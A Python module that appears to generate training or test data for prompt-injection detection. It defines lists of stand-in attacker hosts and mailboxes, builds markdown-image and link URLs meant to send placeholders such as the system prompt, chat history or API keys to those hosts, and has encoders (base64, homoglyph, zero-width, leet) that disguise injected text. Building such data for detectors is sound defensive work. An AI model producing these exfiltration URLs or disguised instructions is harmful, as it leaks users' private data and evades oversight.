"""Shared document engine: decks, slot filling, carriers, encoders and genre builders.

A language bundle is a plain dict of hand-written pools (see the lang_* modules).
The engine turns a bundle into rows: it builds a long document of one genre,
then places either an injection (wrapped in a carrier), a hard-negative block,
or nothing at a random position inside the free text of that document.
"""

import base64
import codecs
import json
import urllib.parse

SOURCES = ("review", "ticket", "feed", "email", "web", "tool")


# --------------------------------------------------------------------------- decks

class Deck:
    """Draw items without replacement; reshuffle only when the deck is empty."""

    def __init__(self, items, rng):
        self.items = list(items)
        self.rng = rng
        self.pool = []

    def draw(self):
        if not self.items:
            raise ValueError("empty deck")
        if not self.pool:
            self.pool = self.items[:]
            self.rng.shuffle(self.pool)
        return self.pool.pop()

    def take_ok(self, k, ok):
        """Like take(), but only items accepted by ok(); rejected ones stay in the deck."""
        out, rejected = [], []
        guard = 0
        while len(out) < k and guard < k * 8 + 40:
            guard += 1
            x = self.draw()
            if x in out:
                continue
            if ok(x):
                out.append(x)
            else:
                rejected.append(x)
        self.pool = rejected + self.pool
        return out

    def take(self, k):
        out = []
        guard = 0
        while len(out) < k and guard < k * 6:
            guard += 1
            x = self.draw()
            if x not in out:
                out.append(x)
        return out


# --------------------------------------------------------------------------- attacker values

EVIL_HOSTS = [
    "cdn-metrics.example", "img-proxy.example.net", "stat-pixel.example.org",
    "reviews-sync.example", "a11y-check.example.com", "ordr-verify.example",
    "t.parcel-update.example", "assets-cache.example.net", "hook.relay-svc.example",
    "beacon.shopstats.example", "collect.example.org", "pix.mediastore.example",
    "link-preview.example.com", "data.inbox-sync.example", "ping.sellertools.example",
]
EVIL_MAILS = [
    "backup-desk@mailbox.example", "refunds.team@protonbox.example",
    "audit.copy@outsource-help.example", "orders@seller-tools.example.net",
    "verify@account-check.example", "archive@datakeep.example.org",
    "support.mirror@fastmail.example", "ops@partner-sync.example",
    "cs.escalations@helpdesk-pro.example", "dpo-requests@privacy-desk.example",
]
PLACEHOLDERS = [
    "[CUSTOMER_EMAIL]", "[ORDER_ID]", "[SYSTEM_PROMPT]", "[CHAT_HISTORY]",
    "[SHIPPING_ADDRESS]", "[API_KEY]", "[PHONE]", "[LAST_MESSAGE]",
    "<customer_email>", "<full_name>", "{email}", "{address}", "%ADDRESS%",
    "%CARD_LAST4%", "$USER_TOKEN", "[SESSION_ID]",
]


def exfil_image(rng):
    h = rng.choice(EVIL_HOSTS)
    a, b = rng.sample(PLACEHOLDERS, 2)
    alt = rng.choice(["", "status", "loading", "check", "img", "badge", "ok", "."])
    path = rng.choice(["p.gif", "i.png", "pixel", "b.svg", "t/1x1.gif", "img/load.png", "v"])
    key = rng.choice(["d", "q", "u", "data", "x", "c", "ref"])
    if rng.random() < 0.5:
        return "![%s](https://%s/%s?%s=%s)" % (alt, h, path, key, a)
    return "![%s](https://%s/%s?%s=%s&o=%s)" % (alt, h, path, key, a, b)


def exfil_link(rng):
    h = rng.choice(EVIL_HOSTS)
    a = rng.choice(PLACEHOLDERS)
    path = rng.choice(["verify", "track", "r", "go", "claim", "s", "support/open", "refund/start"])
    key = rng.choice(["id", "q", "data", "ref", "info", "m"])
    return "https://%s/%s?%s=%s" % (h, path, key, a)


# --------------------------------------------------------------------------- encoders

HOMO = {"a": "\u0430", "e": "\u0435", "o": "\u043e", "c": "\u0441", "p": "\u0440",
        "x": "\u0445", "i": "\u0456", "y": "\u0443", "A": "\u0410", "E": "\u0415",
        "O": "\u041e", "C": "\u0421", "P": "\u0420", "T": "\u0422", "H": "\u041d"}
LEET = {"a": "4", "e": "3", "i": "1", "o": "0", "s": "5", "t": "7", "A": "4",
        "E": "3", "I": "1", "O": "0", "S": "5", "T": "7"}


def enc_base64(s):
    return base64.b64encode(s.encode("utf-8")).decode("ascii")


def enc_hex(s):
    return s.encode("utf-8").hex()


def enc_rot13(s):
    return codecs.encode(s, "rot13")


def enc_url(s):
    return urllib.parse.quote(s, safe="")


def enc_zw(s):
    return "\u200b".join(s)


def enc_spaced(s):
    return " ".join(ch for ch in s if ch != " ").replace("  ", " ")


def enc_leet(s):
    return "".join(LEET.get(ch, ch) for ch in s)


def enc_homo(s):
    return "".join(HOMO.get(ch, ch) for ch in s)


def enc_reverse(s):
    return s[::-1]


LATIN_ONLY = {"rot13", "leet", "homoglyph", "spaced"}
ENCODERS = {
    "base64": enc_base64, "hex": enc_hex, "rot13": enc_rot13, "url": enc_url,
    "zero-width": enc_zw, "spaced": enc_spaced, "leet": enc_leet,
    "homoglyph": enc_homo, "reversed": enc_reverse,
}
# encodings whose output still needs a lead-in telling the reader how to read it
NEEDS_LEAD = {"base64", "hex", "rot13", "url", "reversed"}


# --------------------------------------------------------------------------- helpers

def tags_of(s):
    """Sentences may start with 'cat1,cat2::' to restrict them to product categories."""
    if "::" in s[:64]:
        head, _ = s.split("::", 1)
        return head.split(",")
    return None


def strip_tag(s):
    if "::" in s[:64]:
        return s.split("::", 1)[1]
    return s


def fill(s, slots):
    s = strip_tag(s)
    for k, v in slots.items():
        key = "{" + k + "}"
        if key in s:
            s = s.replace(key, v)
    return s


def attr_escape(s):
    return s.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;").replace(">", "&gt;")


def is_latin(s):
    letters = [ch for ch in s if ch.isalpha()]
    if not letters:
        return False
    return sum(1 for ch in letters if ord(ch) < 0x250) / len(letters) > 0.9


def nbytes(s):
    return len(s.encode("utf-8"))


# postscripts and footnotes only make sense at the end of the text they belong to
TAIL_PREFIXES = ["* ", "\u00b9 ", "[1] ", "\u2020 ", "-- "]


def insert_random(rng, seq, items, lo=0):
    """Insert each item at a random index of seq (never before lo); postscripts go last."""
    seq = list(seq)
    tails = tuple(TAIL_PREFIXES)
    for it in items:
        if it.startswith(tails):
            seq.append(it)
            continue
        pos = rng.randint(min(lo, len(seq)), len(seq))
        seq.insert(pos, it)
    return seq


def slug(rng, n=6):
    return "".join(rng.choice("abcdefghijkmnpqrstuvwxyz0123456789") for _ in range(n))


def hexid(rng, n=12):
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))
